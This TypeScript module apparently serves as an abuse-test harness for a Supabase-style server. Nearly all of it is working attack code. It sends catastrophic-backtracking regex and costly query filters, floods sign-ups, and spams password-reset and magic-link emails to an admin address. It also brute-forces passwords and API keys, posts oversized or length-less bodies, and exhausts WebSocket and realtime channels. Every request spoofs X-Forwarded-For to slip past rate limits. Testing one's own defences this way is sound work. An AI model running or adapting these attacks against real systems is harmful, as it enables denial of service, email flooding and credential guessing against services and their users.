/** Attacks on a server that is open to the network. Each attack is one step, repeated at its rate. */
import { randomBytes, randomUUID } from 'node:crypto'
import { WebSocket } from 'ws'

export interface Target {
  url: string
  apikey: string
  /** The token of an account that the attacker opened. */
  token: string
}

export interface Attack {
  name: string
  everyMs: number
  /** The server's answer; `cut` when it closed the connection. */
  step: (target: Target, turn: number) => Promise<string>
}

const inOneNetwork = (): string => `2001:db8:bad:1:${hex()}:${hex()}:${hex()}:${hex()}`
const anyNetwork = (): string => `2001:db8:${hex()}:${hex()}::1`
const hex = (): string => randomBytes(2).toString('hex')
const a = (many: number): string => 'a'.repeat(many)

/** Sends a request with this address as the last hop in a proxy's header: the server trusts the last hop. */
async function ask(target: Target, path: string, init: RequestInit, from: string): Promise<string> {
  const headers = new Headers(init.headers)
  headers.set('apikey', target.apikey)
  headers.set('x-forwarded-for', `9.9.9.9, ${from}`)
  try {
    const response = await fetch(target.url + path, { ...init, headers, signal: AbortSignal.timeout(20_000) })
    await response.body?.cancel()
    return String(response.status)
  } catch (error) {
    return error instanceof Error && error.name === 'TimeoutError' ? 'no answer in 20 s' : 'cut'
  }
}

const json = (body: unknown): RequestInit => ({
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify(body),
})

const slowFilters = [
  `support_tickets?select=id&description=match.${encodeURIComponent('^(a+)(a+)b\\1\\2a$')}`,
  `support_tickets?or=(subject.eq.x,not.and(description.imatch.${encodeURIComponent('^(a+)+$')}))`,
  `support_tickets?description=ilike(any).{${Array.from({ length: 60 }, (_, n) => `*${a(60)}${n}*`).join(',')}}`,
  `support_tickets?description=like.*${a(4_000)}b*`,
  `support_tickets?select=${Array.from({ length: 100 }, (_, n) => `x${n}:description`).join(',')}`,
  'support_tickets?select=id,p:profiles!support_tickets_user_id_fkey(t:support_tickets!support_tickets_user_id_fkey(description))',
  'support_tickets?description=fts(english).aaaa',
]

const filters: Attack = {
  name: 'slow filters',
  everyMs: 100,
  step: (target, turn) =>
    ask(
      target,
      `/rest/v1/${slowFilters[turn % slowFilters.length]}`,
      { headers: { authorization: `Bearer ${target.token}` } },
      inOneNetwork(),
    ),
}

/** 10,000 in five minutes. */
const signUps: Attack = {
  name: 'sign-ups from one /64',
  everyMs: 30,
  step: (target) =>
    ask(
      target,
      '/auth/v1/signup',
      json({ email: `${randomUUID()}@malo.example`, password: randomUUID() }),
      inOneNetwork(),
    ),
}

const letters: Attack = {
  name: 'letters from everywhere',
  everyMs: 50,
  step: (target, turn) =>
    ask(
      target,
      turn % 2 === 0 ? '/auth/v1/recover' : '/auth/v1/magiclink',
      json({ email: 'admin@demo.mx' }),
      anyNetwork(),
    ),
}

const passwords: Attack = {
  name: 'wrong passwords',
  everyMs: 200,
  step: (target, turn) =>
    ask(
      target,
      '/auth/v1/token?grant_type=password',
      json({ email: 'cliente@demo.mx', password: `mala-${turn}` }),
      turn % 10 === 0 ? anyNetwork() : inOneNetwork(),
    ),
}

const apiKeys: Attack = {
  name: 'unknown API keys',
  everyMs: 250,
  step: (target) =>
    ask(
      target,
      `/functions/v1/api/v1/invoices/${randomUUID()}`,
      { headers: { authorization: `Bearer az_live_${randomUUID()}` } },
      inOneNetwork(),
    ),
}

const endpoints = [
  '/auth/v1/signup',
  '/rest/v1/rpc/sync_push',
  '/rest/v1/rpc/track_events',
  '/functions/v1/lead',
  '/realtime/v1/api/broadcast',
  '/storage/v1/object/documents/x',
]
const sizes = [0, 1, 1_000, 64_000, 101_000, 1_000_000, 1_900_000, 2_100_000, 20_000_000]

const bodies: Attack = {
  name: 'bodies of every size',
  everyMs: 250,
  step: (target, turn) => {
    const size = sizes[turn % sizes.length] ?? 0
    const body = turn % 4 === 0 ? '['.repeat(size) : JSON.stringify({ a: a(size) })
    const init = { method: 'POST', headers: { 'content-type': 'application/json' } }
    const endpoint = endpoints[turn % endpoints.length] ?? ''
    return ask(
      target,
      endpoint,
      turn % 3 === 0 ? { ...init, ...unnamed(body) } : { ...init, body },
      anyNetwork(),
    )
  },
}

/** Sends the body in chunks, without its length. */
function unnamed(body: string): RequestInit & { duplex: 'half' } {
  const bytes = new TextEncoder().encode(body)
  let at = 0
  return {
    duplex: 'half',
    body: new ReadableStream({
      pull(controller) {
        if (at >= bytes.length) return controller.close()
        controller.enqueue(bytes.subarray(at, at + 65_536))
        at += 65_536
      },
    }),
  }
}

const held = new Set<WebSocket>()
const maxHeld = 1_000

/** Opens as many connections as the server allows, each with the largest channels and presences. */
const sockets: Attack = {
  name: 'sockets',
  everyMs: 20,
  step: async ({ url, apikey, token }, turn) => {
    for (const line of [...held].slice(turn % 50, (turn % 50) + 5)) join(line, token, turn)
    if (held.size >= maxHeld) return 'enough are open'
    const address = `${url.replace('http', 'ws')}/realtime/v1/websocket?apikey=${apikey}&vsn=1.0.0`
    const line = new WebSocket(address, { headers: { 'x-forwarded-for': `9.9.9.9, ${inOneNetwork()}` } })
    held.add(line)
    line.on('close', () => held.delete(line))
    return new Promise((resolve) => {
      line.on('open', () => resolve('open'))
      line.on('error', (error) => resolve(/\b\d{3}\b/.exec(error.message)?.[0] ?? 'cut'))
    })
  },
}

function join(line: WebSocket, token: string, turn: number): void {
  if (line.readyState !== WebSocket.OPEN) return
  const send = (topic: string, event: string, payload: object): void =>
    line.send(JSON.stringify({ topic: `realtime:${topic}`, event, payload, ref: '1', join_ref: '1' }))
  const topic = `room ${turn}`
  const changes = Array.from({ length: 20 }, () => ({ event: '*', schema: '*', filter: `a=eq.${a(1_000)}` }))
  send(topic, 'phx_join', { config: { presence: { enabled: true } } })
  send(topic, 'phx_join', { config: { postgres_changes: changes } })
  send('sync:catalogue', 'phx_join', {
    config: { private: true },
    access_token: token,
  })
  send(topic, 'presence', {
    type: 'presence',
    event: 'track',
    payload: { big: a(turn % 20 === 0 ? 60_000 : 20_000) },
  })
}

export const attacks: readonly Attack[] = [filters, signUps, letters, passwords, apiKeys, bodies, sockets]
